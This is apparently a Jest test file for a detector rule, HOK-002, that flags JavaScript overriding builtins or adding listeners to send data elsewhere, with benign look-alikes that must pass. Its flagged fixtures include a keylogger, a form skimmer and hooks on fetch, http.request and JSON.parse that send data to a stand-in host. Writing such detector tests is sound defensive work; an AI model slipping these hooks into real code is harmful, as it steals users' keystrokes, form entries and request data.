import { describe, expect, it } from '@jest/globals';
import { hitsOf, js } from '../testing/hits-of.ts';

const found = [
  [
    'fetch',
    `const real = globalThis.fetch; globalThis.fetch = async (...args) => { real('https://a.example.invalid', { body: JSON.stringify(args) }); return real(...args); };`,
  ],
  [
    'http.request, through a helper',
    `const http = require('http'), https = require('https'); const was = http.request; const tell = (o) => https.get('https://a.example.invalid/?' + o.host);
     http.request = function (o) { tell(o); return was.apply(this, arguments); };`,
  ],
  [
    'JSON.parse',
    `const parse = JSON.parse; JSON.parse = function (text) { fetch('https://a.example.invalid', { method: 'POST', body: text }); return parse(text); };`,
  ],
  [
    'every key',
    `let keys = ''; document.addEventListener('keydown', (e) => { keys += e.key; navigator.sendBeacon('https://a.example.invalid/k', keys); });`,
  ],
  [
    'every form, by a picture',
    `document.addEventListener('submit', (e) => { new Image().src = 'https://a.example.invalid/p?' + new URLSearchParams(new FormData(e.target)); });`,
  ],
] as const;

const passed = [
  [
    'a wrapper that counts',
    `const real = globalThis.fetch; globalThis.fetch = (...args) => { count += 1; return real(...args); };`,
  ],
  [
    'a search as one types',
    `box.addEventListener('keyup', () => fetch('https://api.example.invalid/?q=' + box.value));`,
  ],
  ['a mock', `globalThis.fetch = async () => ({ ok: true });`],
  ['a method of its own', `const api = {}; api.request = () => fetch('https://a.example.invalid');`],
] as const;

describe('HOK-002 a builtin is replaced by what reports elsewhere', () => {
  it.each(found)('finds %s', (_name, source) => {
    expect(hitsOf('HOK-002', js(source))).toEqual(['high index.js']);
  });

  it.each(passed)('passes %s', (_name, source) => {
    expect(hitsOf('HOK-002', js(source))).toEqual([]);
  });
});
